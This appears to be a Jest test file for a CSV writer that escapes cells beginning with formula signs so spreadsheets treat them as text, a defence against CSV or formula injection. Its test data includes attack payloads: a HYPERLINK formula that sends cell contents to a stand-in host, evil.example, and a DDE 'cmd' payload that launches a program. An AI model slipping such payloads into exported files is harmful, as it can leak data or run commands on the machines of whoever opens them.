import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvLines } from '#libs/csv/csv-lines.js';

const read = (csv: string): string[][] => parse(csv);
/** How programs find the cells of a line: by the standard, and without regard to quotes. */
const READERS: readonly ((csv: string) => string[])[] = [
  (csv) => read(csv).flat(),
  ...[',', ';', '\t', /[,;\t]/].map((sign) => (csv: string) => csv.split(/[\r\n]/).flatMap((line) => line.split(sign))),
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/** What a program sees at the beginning of a cell once it has dropped blanks, marks and quotes. */
const begins = (cell: string): string => cell.replace(/^[\s\p{Cc}\p{Cf}"]+/u, '').charAt(0);

describe('lines of CSV', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example?d="&A1,"Open")', `'=HYPERLINK("https://evil.example?d="&A1,"Open")`],
    ['-2+3', "'-2+3"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['＝1+1', "'＝1+1"],
    [' \u00a0=1', " \u00a0'=1"],
    ['\ufeff\u200b=1', "\ufeff\u200b'=1"],
    ['\t=1', "\t'=1"],
    ['\r=1', "\r'=1"],
    ['\0=1', "\0'=1"],
    ['"=1"', `"'=1"`],
    ['a";=1;"', `a";'=1;"`],
    ['a",=1,"', `a",'=1,"`],
    ['Hello\n=1\u2028@x', "Hello\n'=1\u2028'@x"],
    ['- two beds\n- a garden', "'- two beds\n'- a garden"],
    ['+1-512-555-0100', "'+1-512-555-0100"],
    ['-5;-5;=5', "-5;-5;'=5"],
  ])('make no formula of %j', (text, shown) => expect(read(csvLines([[text]]))).toEqual([[shown]]));

  it.each([
    ...['-250', '-1,234.50', '00123', '+15125550100', '+1 512 555 0100', '+1 (512) 555-0100', '+44 (0)20 7946 0000'],
    ...['a = b, 1-2, x@y', "'quoted' \\ %", 'Nora "Nell" Finch', 'Finch, Nora', 'First line\nSecond line', ''],
    ...['nora+oak@example.com', 'https://a.example/?a=1&b=2', 'Größe: 80 m² – schön; 房产, شقة'],
  ])('leave %j as it is', (text) => expect(read(csvLines([[text]]))).toEqual([[text]]));

  it('hold numbers, words for yes and no, and nothing, and end as the standard says', () =>
    expect(csvLines([['a', 1, true, null], [-2]])).toBe('"a",1,true,\r\n-2\r\n'));

  it('begin no cell with a sign, however a program parts the cells', () => {
    const piece = fc.constantFrom(
      ...SIGNS,
      ',',
      ';',
      '\t',
      '\r',
      '\n',
      '"',
      "'",
      ' ',
      '\ufeff',
      '\u200b',
      '\0',
      'a',
      '(1)',
    );
    const texts = fc.array(fc.string({ unit: piece, maxLength: 12 }), { minLength: 1, maxLength: 3 });
    fc.assert(
      fc.property(texts, (row) => {
        const found = READERS.flatMap((cellsOf) =>
          cellsOf(csvLines([row])).filter((cell) => SIGNS.includes(begins(cell))),
        );
        expect(found).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});
